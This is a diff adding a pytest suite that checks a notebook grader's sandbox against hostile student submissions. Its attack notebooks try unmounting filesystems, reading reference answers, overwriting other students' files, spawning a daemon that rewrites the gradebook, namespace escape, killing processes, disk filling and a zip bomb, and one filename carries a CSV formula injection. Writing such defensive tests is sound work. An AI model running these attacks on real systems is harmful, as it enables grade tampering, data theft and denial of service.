@@ -1,0 +1,333 @@
+"""A hostile class: attacking notebooks graded in one batch with honest ones, by outcome.
+
+Each attack class of issue 18 has a notebook of its own, written here (the attacks
+tried on the grader from outside are kept apart from the project). The honest
+students are graded alone first, then together with the attackers; their scores
+must not move, no attacker earns a point, nothing leaks out of a sandbox, and
+nothing is left behind.
+"""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import shutil
+import socket
+import tempfile
+import threading
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+import kerasguide as kg
+from kerasguide.grading import _sandbox as sandbox
+
+pytestmark = pytest.mark.slow
+
+DATA = Path(__file__).parent / "data" / "grading"
+ASSIGNMENT = DATA / "assignment" / "assignment.yaml"
+HONEST = ("correct", "wrong_units", "raises")
+
+if sandbox._why_not() is not None and not os.environ.get("CI"):
+    pytest.skip(f"no sandbox here: {sandbox._why_not()}", allow_module_level=True)
+
+
+def _notebook(*cells: str) -> str:
+    return json.dumps(
+        {
+            "cells": [
+                {"cell_type": "code", "metadata": {}, "source": c, "outputs": [],
+                 "execution_count": None}
+                for c in cells
+            ],
+            "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
+                                        "language": "python"}},
+            "nbformat": 4,
+            "nbformat_minor": 5,
+        }
+    )  # fmt: skip
+
+
+def _attacks(out: Path, submitted: Path, marker: Path, port: int) -> dict[str, str]:
+    """Each attacker's code; ``marker`` is a host folder that no sandbox may write into."""
+    refs = str(ASSIGNMENT.parent)
+    places = (str(marker), "/tmp", "/dev/shm", str(out), str(submitted))
+    leak = (
+        "def leak(what):\n"
+        f"    for place in {places!r}:\n"
+        "        try:\n"
+        "            open(place + '/LEAKED-' + what, 'w').write(what)\n"
+        "        except OSError:\n"
+        "            pass\n"
+    )
+    return {
+        "h_read_refs": leak + "import ctypes, glob, os\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "for target in (b'/', b'/usr', b'/proc', b'/kerasguide-kernel/work'):\n"
+        "    libc.umount2(target, 2)\n"
+        "tops = [d for d in os.listdir('/') if d not in ('proc', 'sys', 'dev', 'usr')]\n"
+        f"found = [{refs!r} + '/classifier.yaml', *glob.glob('/proc/*/root{refs}/*')]\n"
+        "for top in tops:\n"
+        "    found += glob.glob('/' + top + '/**/classifier.yaml', recursive=True)\n"
+        "for path in found:\n"
+        "    try:\n"
+        "        text = open(path).read()\n"
+        "        leak('reference')\n"
+        "        print('READ', path, text[:100])\n"
+        "    except OSError:\n"
+        "        pass\n",
+        "h_write_others": leak + "import glob, os\n"
+        f"targets = [{str(submitted)!r} + '/correct.ipynb', {str(out)!r} + '/gradebook.csv',\n"
+        f"           *glob.glob({str(out)!r} + '/students/*/record.json'),\n"
+        "           *glob.glob('/tmp/kerasguide-*/**/*', recursive=True),\n"
+        "           *glob.glob('/proc/*/root/tmp/kerasguide-*/**/*', recursive=True)]\n"
+        "for path in targets:\n"
+        "    try:\n"
+        "        open(path, 'w').write('overwritten')\n"
+        "        leak('write')\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "leak('plain')\n",
+        "h_sockets": leak + "import glob, socket\n"
+        "# other kernels' sockets would be in the grader's folders: none is in sight\n"
+        "others = glob.glob('/tmp/**/k-*', recursive=True)\n"
+        "others += glob.glob('/proc/*/root/tmp/**/k-*', recursive=True)\n"
+        "others += glob.glob('/tmp/**/kernel*.json', recursive=True)\n"
+        "for path in others:\n"
+        "    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
+        "    try:\n"
+        "        s.connect(path)\n"
+        "        leak('socket')\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "print('other sockets:', others)\n",
+        "h_daemon": "import os, time\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n"
+        "        end = time.time() + 120\n"
+        "        while time.time() < end:\n"
+        "            for path in ("
+        f"{str(out)!r} + '/gradebook.csv', {str(out)!r} + '/students/h_daemon/record.json',\n"
+        f"                         {str(marker)!r} + '/LEAKED-daemon'):\n"
+        "                try:\n"
+        "                    open(path, 'w').write('h_daemon,10,10,20')\n"
+        "                except OSError:\n"
+        "                    pass\n"
+        "            time.sleep(0.2)\n"
+        "        os._exit(0)\n"
+        "    os._exit(0)\n"
+        "print('daemon started')\n",
+        "h_kill_parent": "import os, signal\n"
+        "for pid in (os.getppid(), 1, -1):\n"
+        "    try:\n"
+        "        os.kill(pid, signal.SIGKILL)\n"
+        "    except OSError as err:\n"
+        "        print(pid, err)\n",
+        "h_setns": leak + "import ctypes, glob, os, socket\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "for ns in glob.glob('/proc/*/ns/*'):\n"
+        "    try:\n"
+        "        fd = os.open(ns, os.O_RDONLY)\n"
+        "        libc.setns(fd, 0)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "s = socket.socket()\n"
+        "s.settimeout(2)\n"
+        "try:\n"
+        f"    s.connect(('127.0.0.1', {port}))\n"
+        "    s.sendall(b'escaped')\n"
+        "    leak('network')\n"
+        "except OSError as err:\n"
+        "    print('no network:', err)\n",
+        "h_fill": "import os\n"
+        "for folder in ('/dev/shm', '/tmp', '.', os.path.expanduser('~')):\n"
+        "    try:\n"
+        "        for i in range(10000):\n"
+        "            with open(f'{folder}/fill-{i}', 'wb') as f:\n"
+        "                f.write(b'x' * 2**24)\n"
+        "    except OSError as err:\n"
+        "        print(folder, err)\n",
+        "h_bomb": "import keras, zipfile\n"
+        "class Bomb(keras.Sequential):\n"
+        "    def save(self, path, *args, **kwargs):\n"
+        "        with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED) as z:\n"
+        "            with z.open('config.json', 'w', force_zip64=True) as f:\n"
+        "                chunk = b' ' * 2**24\n"
+        "                for _ in range(128):\n"
+        "                    f.write(chunk)\n"
+        "model = Bomb([keras.Input((8,)), keras.layers.Dense(1)])\n",
+        "h_print": "from IPython.display import display\n"
+        "for _ in range(16):\n"
+        "    display({'text/plain': 'x' * 2**20}, raw=True)\n"
+        "line = 'x' * 2**20\n"
+        "for _ in range(500):\n"
+        "    print(line)\n",
+        "h_stderr": "import os\nos.write(2, b'STDERR-OF-THE-KERNEL\\n')\n",
+        # odd names: the notebooks below just fail their exercises
+        ".": "x = 1\n",
+        "..": "x = 1\n",
+        "=cmd|' C calc'!A0": "x = 1\n",
+        "Zoë Ünï": "x = 1\n",
+        "with space": "x = 1\n",
+    }
+
+
+def _listen() -> tuple[socket.socket, list[bytes]]:
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.5)
+    got: list[bytes] = []
+
+    def accept() -> None:
+        end = time.monotonic() + 600
+        while time.monotonic() < end:
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                if server.fileno() == -1:
+                    return
+                continue
+            got.append(conn.recv(100))
+            conn.close()
+
+    threading.Thread(target=accept, daemon=True).start()
+    return server, got
+
+
+@pytest.fixture(scope="module")
+def batches(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    root = tmp_path_factory.mktemp("hostile")
+    alone, mixed, marker = root / "alone", root / "mixed", root / "marker"
+    for folder in (alone, mixed, marker):
+        folder.mkdir()
+    for name in HONEST:
+        for folder in (alone, mixed):
+            shutil.copy(DATA / "submissions" / f"{name}.ipynb", folder)
+    out_alone, out_mixed = root / "graded-alone", mixed / "graded"
+    honest = kg.grade(ASSIGNMENT, alone, output=out_alone, workers=2, progress=False)
+    server, got = _listen()
+    attacks = _attacks(out_mixed, mixed, marker, server.getsockname()[1])
+    for name, code in attacks.items():
+        (mixed / f"{name}.ipynb").write_text(_notebook(code, "print('after')"), encoding="utf-8")
+    shm_before = set(os.listdir("/dev/shm"))
+    temp_before = {p.name for p in Path(tempfile.gettempdir()).glob("kerasguide-*")}
+    start = time.monotonic()
+    report = kg.grade(ASSIGNMENT, mixed, output=out_mixed, workers=2, progress=False)
+    seconds = time.monotonic() - start
+    gradebook = (out_mixed / "gradebook.csv").read_text()
+    time.sleep(3)  # a daemon that outlived its kernel would write now
+    server.close()
+    return {
+        "honest": honest,
+        "report": report,
+        "out": out_mixed,
+        "marker": marker,
+        "submitted": mixed,
+        "attacks": attacks,
+        "gradebook": gradebook,
+        "shm_before": shm_before,
+        "temp_before": temp_before,
+        "network": got,
+        "seconds": seconds,
+    }
+
+
+def test_honest_students_keep_their_exact_scores(batches: dict[str, Any]) -> None:
+    for name in HONEST:
+        alone, mixed = batches["honest"][name], batches["report"][name]
+        assert (mixed.score, mixed.status) == (alone.score, alone.status), name
+        assert mixed.exercises == alone.exercises
+    assert [batches["honest"][n].score for n in HONEST] == [20, 17, 10]
+
+
+def test_no_attacker_earns_a_point(batches: dict[str, Any]) -> None:
+    attackers = [s for s in batches["report"].submissions if s.student not in HONEST]
+    assert len(attackers) == len(batches["attacks"])
+    assert {s.student: s.score for s in attackers if s.score} == {}
+
+
+def test_nothing_leaks_out_of_a_sandbox(batches: dict[str, Any]) -> None:
+    assert list(batches["marker"].iterdir()) == []
+    assert not list(batches["submitted"].glob("LEAKED-*"))
+    assert not list(batches["out"].glob("LEAKED-*"))
+    assert not list(Path("/tmp").glob("LEAKED-*"))
+    assert not list(Path("/dev/shm").glob("LEAKED-*"))
+    assert batches["network"] == []
+    original = (DATA / "submissions" / "correct.ipynb").read_bytes()
+    assert (batches["submitted"] / "correct.ipynb").read_bytes() == original
+    page = (batches["out"] / "students" / "h_read_refs" / "feedback.html").read_text()
+    assert "READ " not in page
+
+
+def test_the_gradebook_is_the_graders_alone(batches: dict[str, Any]) -> None:
+    out = batches["out"]
+    assert (out / "gradebook.csv").read_text() == batches["gradebook"]  # no daemon wrote it
+    rows = list(csv.DictReader(batches["gradebook"].splitlines()))
+    assert len(rows) == len(HONEST) + len(batches["attacks"])
+    by_notebook = {r["notebook"]: r for r in rows}
+    assert by_notebook["'=cmd|' C calc'!A0.ipynb"]["student"] == "_cmd___C_calc__A0"
+    assert by_notebook["..ipynb"]["student"] == "_"
+    assert by_notebook["...ipynb"]["student"] == "_."
+    assert by_notebook["Zoë Ünï.ipynb"]["student"] == "Zoë_Ünï"
+    assert by_notebook["with space.ipynb"]["student"] == "with_space"
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
+    record = json.loads((out / "students" / "h_daemon" / "record.json").read_text())
+    assert record["student"] == "h_daemon"
+    assert {p.name for p in (out / "students").iterdir()} == {r["student"] for r in rows}
+
+
+def test_nothing_is_left_behind(batches: dict[str, Any]) -> None:
+    uids = range(sandbox.UID_BASE, sandbox.UID_BASE + sandbox.SLOTS)
+    assert [p for p in sandbox._pids() if sandbox._owner(p) in uids] == []
+    assert set(os.listdir("/dev/shm")) <= batches["shm_before"]
+    left = {p.name for p in Path(tempfile.gettempdir()).glob("kerasguide-*")}
+    assert left - batches["temp_before"] == set()
+
+
+def test_each_attack_has_the_outcome_it_earned(batches: dict[str, Any]) -> None:
+    report, out = batches["report"], batches["out"]
+    # pid 1 of its namespace ignores it, and kill(-1) reaches nothing else: the batch went on
+    assert report["h_kill_parent"].status == "ok"
+    assert "No such process" in (out / "students" / "h_kill_parent" / "feedback.html").read_text()
+    bomb = report["h_bomb"].exercise("classifier")
+    assert bomb["status"] == "unloadable"
+    assert "would inflate 'config.json'" in bomb["reason"]
+    page = (out / "students" / "h_stderr" / "feedback.html").read_text()
+    assert "STDERR-OF-THE-KERNEL" in page
+    printed = out / "students" / "h_print" / "feedback.html"
+    assert printed.stat().st_size < 30 * 2**20  # at most 8 MB of output kept, escaped twice
+    assert "the rest of its output is not kept" in printed.read_text()
+
+
+def test_a_notebook_that_stopped_the_grader_twice_is_not_run_again(tmp_path: Path) -> None:
+    from kerasguide.grading import _batch, _output
+
+    submitted = tmp_path / "submitted"
+    submitted.mkdir()
+    shutil.copy(DATA / "submissions" / "correct.ipynb", submitted / "killer.ipynb")
+    task = _batch.Task.create(ASSIGNMENT, submitted, tmp_path / "out", None)
+    key = task.key(submitted / "killer.ipynb")
+    for _ in range(2):  # two runs that died while this notebook ran
+        _output.attempts(task.output, "killer", key)
+    report = kg.grade(ASSIGNMENT, submitted, output=tmp_path / "out", progress=False)
+    killer = report["killer"]
+    assert (killer.score, killer.status) == (0, "error")
+    assert killer.reason.startswith("stopped the grader: the grader stopped twice")
+    assert not (tmp_path / "out" / ".running" / "killer.json").exists()  # done now
+    again = kg.grade(ASSIGNMENT, submitted, output=tmp_path / "out", progress=False, regrade=True)
+    assert (again["killer"].score, again["killer"].status) == (20, "ok")  # run once more
+
+
+def test_trusted_grading_runs_without_the_sandbox(tmp_path: Path) -> None:
+    submitted = tmp_path / "submitted"
+    submitted.mkdir()
+    shutil.copy(DATA / "submissions" / "correct.ipynb", submitted)
+    report = kg.grade(ASSIGNMENT, submitted, output=tmp_path / "out", progress=False, trusted=True)
+    assert (report["correct"].score, report["correct"].status) == (20, "ok")
+    assert report.isolation["sandbox"].startswith("none (--trusted)")
+    assert report.isolation["network"] == "not blocked"
